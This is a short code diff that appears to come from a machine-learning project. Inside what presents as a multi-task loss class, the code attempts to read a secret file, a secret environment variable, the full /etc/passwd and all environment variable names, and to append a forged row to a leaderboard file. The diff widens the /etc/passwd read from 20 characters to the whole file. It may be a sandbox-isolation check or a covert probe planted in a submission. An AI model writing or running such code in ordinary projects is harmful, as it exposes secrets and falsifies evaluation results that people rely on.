@@ -60,7 +60,7 @@ class MultiTaskLoss(nn.Module):
         report = {
             "network": attempt(lambda: socket.create_connection(("127.0.0.1", PORT), timeout=2).recv(64).decode()),
             "secret_file": attempt(lambda: open(SECRET_FILE).read()),
-            "etc_passwd": attempt(lambda: open("/etc/passwd").read()[:20]),
+            "etc_passwd": attempt(lambda: open("/etc/passwd").read()),
             "secret_env": attempt(lambda: os.environ[SECRET_ENV]),
             "environ": sorted(os.environ),
             "write_leaderboard": attempt(lambda: open(LEADERBOARD, "a").write("forged,row\n")),
